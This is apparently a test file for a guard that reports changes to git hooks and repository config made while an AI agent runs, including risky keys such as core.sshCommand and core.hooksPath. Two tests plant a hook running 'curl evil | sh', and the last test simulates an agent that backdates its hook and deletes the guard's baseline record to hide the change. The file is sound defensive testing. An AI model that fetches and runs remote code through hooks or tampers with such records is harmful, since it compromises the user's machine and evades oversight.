/** Changes to `.git/hooks` and the repository's config files: the diff (pure) and the check against a kept baseline. */
import {
  appendFileSync,
  chmodSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { execFileSync } from 'node:child_process';
import path from 'node:path';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import {
  checkGitSetup,
  diffGitSetup,
  GIT_SETUP_FILE,
  MAX_HOOK_FILES,
  recordGitSetup,
  type GitSetup,
  type HeldGitSetup,
} from '../tasks/guards/git-setup-guard.ts';
import { git, makeRepo, type TestRepo } from './support/fixture.ts';

/** A repository with an empty milestone 7, its common dir and the milestone's state folder. */
async function setupRepo(): Promise<{ repo: TestRepo; common: string; stateDir: string }> {
  const repo = await makeRepo({ plan: 'milestone: {number: 7, title: "x"}\nwaves: []\n', items: [] });
  const common = path.join(repo.dir, '.git');
  return { repo, common, stateDir: path.join(common, 'work-milestone', 'milestone-7') };
}

test('diffGitSetup: hooks added, changed, removed; config keys changed, added, removed; a removed worktree is not a change', () => {
  const before: GitSetup = {
    hooks: { 'pre-commit.sample': 'a x', 'pre-push': 'b x', 'post-checkout': 'c x', 'hooks.d/one': 'd' },
    configs: {
      config: { keys: { 'core.bare': ['1'], 'user.name': ['2'], 'remote.origin.url': ['3'] } },
      'worktrees/7-1-a/config.worktree': { keys: { 'core.sparsecheckout': ['4'] } },
    },
  };
  const after: GitSetup = {
    hooks: { 'pre-commit.sample': 'a x', 'pre-push': 'b2 x', 'post-commit': 'e x', 'hooks.d/one': 'd x' },
    configs: {
      config: {
        keys: { 'core.bare': ['1'], 'user.name': ['5'], 'core.fsmonitor': ['6'], 'remote.origin.url': ['3', '7'] },
      },
      'config.worktree': { keys: { 'core.hookspath': ['8'] } },
      'worktrees/7-2-b/config.worktree': { unreadable: '9' },
    },
  };
  assert.equal(diffGitSetup(before, after), [
    // The hooks git runs first, then other files.
    'removed .git/hooks/post-checkout',
    'added .git/hooks/post-commit (the runner never runs hooks)',
    'changed .git/hooks/pre-push (the runner never runs hooks)',
    'changed .git/hooks/hooks.d/one (the runner never runs hooks)',
    'changed the repository config: core.fsmonitor, remote.origin.url, user.name',
    'changed the repository config.worktree: core.hookspath',
    'changed the config of worktree 7-2-b, which git cannot read now',
  ]);
  assert.equal(diffGitSetup(after, after), []);
  assert.equal(diffGitSetup(before, { hooks: before.hooks, configs: {} }, 'repo.git'), [
    'removed the repository config',
  ]);
});

test('checkGitSetup: without a baseline, files modified since the agent started; then each change once, by key; a broken config', async () => {
  const { repo, common, stateDir } = await setupRepo();
  try {
    // The sample hooks of `git init` were written a moment ago; in a user's repository they are old.
    const past = new Date(Date.now() - 3_600_000);
    for (const f of readdirSync(path.join(common, 'hooks'))) utimesSync(path.join(common, 'hooks', f), past, past);
    const start = Date.now();
    writeFileSync(path.join(common, 'hooks', 'post-merge'), '#!/bin/sh\n');
    await git(repo.dir, 'config', 'core.sshCommand', 'ssh -i key');
    // No baseline yet (none was recorded before the agent): what was modified since it started, the risky keys named.
    assert.equal(await checkGitSetup(common, stateDir, start), [
      'changed .git/hooks/post-merge (the runner never runs hooks)',
      'changed the repository config while the agent ran; it sets core.sshcommand',
    ]);
    assert.ok(existsSync(path.join(stateDir, GIT_SETUP_FILE)));
    assert.not.match(
      readFileSync(path.join(stateDir, GIT_SETUP_FILE), 'utf8'),
      'ssh -i key',
      'config values are not copied',
    );
    // Reported once.
    assert.equal(await checkGitSetup(common, stateDir, start), []);
    chmodSync(path.join(common, 'hooks', 'post-merge'), 0o755);
    await git(repo.dir, 'config', 'user.name', 'Someone Else');
    await git(repo.dir, 'config', 'extensions.worktreeConfig', 'true');
    await git(repo.dir, 'worktree', 'add', '-q', path.join(repo.root, 'wt'), '-b', 'wt');
    await git(path.join(repo.root, 'wt'), 'config', '--worktree', 'core.hooksPath', '/tmp/elsewhere');
    assert.equal(await checkGitSetup(common, stateDir, Date.now()), [
      'changed .git/hooks/post-merge (the runner never runs hooks)',
      'changed the repository config: extensions.worktreeconfig, user.name',
      'changed the config of worktree wt: core.hookspath',
    ]);
    appendFileSync(path.join(common, 'config'), '[[[ not config\n');
    assert.equal(await checkGitSetup(common, stateDir, Date.now()), [
      'changed the repository config, which git cannot read now',
    ]);
    assert.equal(await checkGitSetup(common, stateDir, Date.now()), []);
  } finally {
    repo.cleanup();
  }
});

test('recordGitSetup takes the baseline once: changes after it are diffed by key, not by time', async () => {
  const { repo, common, stateDir } = await setupRepo();
  try {
    await recordGitSetup(common, stateDir);
    mkdirSync(path.join(common, 'hooks', 'pre-commit.d'));
    writeFileSync(path.join(common, 'hooks', 'pre-commit.d', 'lint'), 'x');
    await git(repo.dir, 'config', 'alias.co', 'checkout');
    // A second record keeps the first baseline.
    await recordGitSetup(common, stateDir);
    assert.equal(await checkGitSetup(common, stateDir, Date.now() + 60_000), [
      'added .git/hooks/pre-commit.d/lint (the runner never runs hooks)',
      'changed the repository config: alias.co',
    ]);
  } finally {
    repo.cleanup();
    rmSync(stateDir, { recursive: true, force: true });
  }
});

test('a named pipe planted as a hook is "added", found at once; a hook of 64 MiB is told apart without reading it', async () => {
  const { repo, common, stateDir } = await setupRepo();
  try {
    await recordGitSetup(common, stateDir);
    // Read the blocking way, a pipe nobody writes to stopped the runner here for good.
    execFileSync('mkfifo', [path.join(common, 'hooks', 'pre-push')]);
    writeFileSync(path.join(common, 'hooks', 'post-commit'), Buffer.alloc(64 * 1024 * 1024, 'x'));
    assert.equal(await checkGitSetup(common, stateDir, Date.now()), [
      'added .git/hooks/post-commit (the runner never runs hooks)',
      'added .git/hooks/pre-push (the runner never runs hooks)',
    ]);
    writeFileSync(path.join(common, 'hooks', 'post-commit'), Buffer.alloc(64 * 1024 * 1024, 'y'));
    assert.equal(await checkGitSetup(common, stateDir, Date.now()), [
      'changed .git/hooks/post-commit (the runner never runs hooks)',
    ]);
  } finally {
    repo.cleanup();
  }
});

test('a hooks folder of thousands of files: the hooks git runs are still compared, the rest stops at a bound', async () => {
  const { repo, common, stateDir } = await setupRepo();
  try {
    writeFileSync(path.join(common, 'hooks', 'pre-commit'), '#!/bin/sh\nexit 0\n');
    await recordGitSetup(common, stateDir);
    // Sorted before the hook: a walk that looked at names in order would never reach it.
    mkdirSync(path.join(common, 'hooks', 'aaa'));
    for (let i = 0; i < 1500; i++) writeFileSync(path.join(common, 'hooks', 'aaa', `f${i}`), '');
    writeFileSync(path.join(common, 'hooks', 'pre-commit'), '#!/bin/sh\ncurl evil | sh\n');
    const changes = await checkGitSetup(common, stateDir, Date.now());
    assert.is(
      changes[0],
      'changed .git/hooks/pre-commit (the runner never runs hooks)',
      'the hook git runs comes first',
    );
    assert.is(changes.length, 11, changes.join('\n'));
    assert.match(changes[10] ?? '', /^and \d+ more changes under \.git\/hooks$/);
    const baseline = JSON.parse(readFileSync(path.join(stateDir, GIT_SETUP_FILE), 'utf8')) as GitSetup;
    assert.ok(Object.keys(baseline.hooks).length <= MAX_HOOK_FILES + 30, 'the baseline stays bounded');
    assert.equal(await checkGitSetup(common, stateDir, Date.now()), [], 'nothing changed since: nothing reported');
  } finally {
    repo.cleanup();
  }
});

test('a baseline the command holds: an agent that removes the file and backdates its hook is still reported', async () => {
  const { repo, common, stateDir } = await setupRepo();
  try {
    const held: HeldGitSetup = { gitSetup: null };
    await recordGitSetup(common, stateDir, held);
    assert.ok(held.gitSetup, 'held once taken');
    const start = Date.now();
    const hook = path.join(common, 'hooks', 'post-checkout');
    writeFileSync(hook, '#!/bin/sh\ncurl evil | sh\n');
    chmodSync(hook, 0o755);
    // Dated long before the agent started, and the runner's record removed: from the file alone, nothing happened.
    utimesSync(hook, new Date(start - 3_600_000), new Date(start - 3_600_000));
    rmSync(path.join(stateDir, GIT_SETUP_FILE));
    const changes = await checkGitSetup(common, stateDir, start, held);
    assert.equal(changes, [
      'added .git/hooks/post-checkout (the runner never runs hooks)',
      `removed ${path.join(stateDir, GIT_SETUP_FILE)} (the runner's record of the hooks and config; written again)`,
    ]);
    assert.ok(existsSync(path.join(stateDir, GIT_SETUP_FILE)), 'written again');
    assert.equal(await checkGitSetup(common, stateDir, Date.now(), held), [], 'each change once');
  } finally {
    repo.cleanup();
  }
});

test.run();
